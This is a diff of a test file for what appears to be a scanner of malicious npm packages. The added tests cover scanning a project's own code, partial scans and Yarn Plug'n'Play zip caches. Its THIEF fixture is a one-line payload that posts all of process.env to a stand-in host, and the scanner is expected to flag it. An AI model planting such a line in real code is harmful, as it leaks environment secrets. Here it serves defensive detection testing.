@@ -4,12 +4,13 @@ import { dirname, join } from 'node:path';
 import { afterAll, describe, expect, test } from 'vitest';
 import { defineRule, rules, scanDirectory, scanNodeModules, scanPackage, scanSource } from '../src/index.js';
 import { inspectTarget } from '../src/scan.js';
+import { zipOf } from './fixtures/read/zip.js';
 
 const THIEF = `require('https').request('https://collect.invalid').end(JSON.stringify(process.env));`;
 const root = mkdtempSync(join(tmpdir(), 'stowaway-scan-'));
 afterAll(() => rmSync(root, { recursive: true, force: true }));
 
-function plant(files: Readonly<Record<string, string>>): string {
+function plant(files: Readonly<Record<string, string | Uint8Array>>): string {
   const dir = mkdtempSync(join(root, 'tree-'));
   for (const [path, text] of Object.entries(files)) {
     mkdirSync(dirname(join(dir, path)), { recursive: true });
@@ -237,6 +238,45 @@ describe('a tree', () => {
       'node_modules/bad malicious',
       'node_modules/b/node_modules/bad clean',
     ]);
+  });
+
+  test('has its own code scanned, too, where it may be a package that brings others', async () => {
+    const dir = plant({
+      'package.json': '{"name":"suspect","version":"1.0.0","main":"index.js"}',
+      'index.js': THIEF,
+      'node_modules/good/package.json': '{"name":"good","version":"1.0.0"}',
+    });
+    const tree = await scanNodeModules(dir, { own: true });
+    expect(tree.packages.map(({ package: { path }, verdict }) => `${path} ${verdict}`)).toEqual([
+      '. malicious',
+      'node_modules/good clean',
+    ]);
+    expect([...(await inspectTarget(dir, tree.packages)).keys()]).toEqual(['.', 'node_modules/good']);
+    expect((await scanNodeModules(dir)).skipped).toMatchObject([{ gap: 'own-code', severity: 'noted' }]);
+  });
+
+  test('is scanned in part where only some of it is asked for', async () => {
+    const dir = plant({ 'node_modules/a/index.js': THIEF, 'node_modules/b/index.js': THIEF });
+    const tree = await scanNodeModules(dir, { only: ['node_modules/b'] });
+    expect(tree.packages.map(({ package: { path } }) => path)).toEqual(['node_modules/b']);
+    expect(tree.skipped).toEqual([]);
+  });
+
+  test("is found in the zips of Yarn's Plug'n'Play", async () => {
+    const at = './.yarn/cache/bad-npm-1.0.0-x.zip/node_modules/bad/';
+    const dir = plant({
+      'package.json': '{"name":"app","dependencies":{"bad":"1.0.0"}}',
+      '.pnp.data.json': JSON.stringify({ packageRegistryData: [['bad', [['npm:1.0.0', { packageLocation: at }]]]] }),
+      '.yarn/cache/bad-npm-1.0.0-x.zip': zipOf({
+        'node_modules/bad/package.json': '{"name":"bad","version":"1.0.0"}',
+        'node_modules/bad/index.js': THIEF,
+      }),
+    });
+    const tree = await scanNodeModules(dir);
+    expect(tree.packages).toMatchObject([
+      { package: { name: 'bad', version: '1.0.0', path: at.slice(2, -1) }, verdict: 'malicious' },
+    ]);
+    expect([...(await inspectTarget(dir, tree.packages)).keys()]).toEqual([at.slice(2, -1)]);
   });
 
   test('with a broken package in it is scanned all the same', async () => {
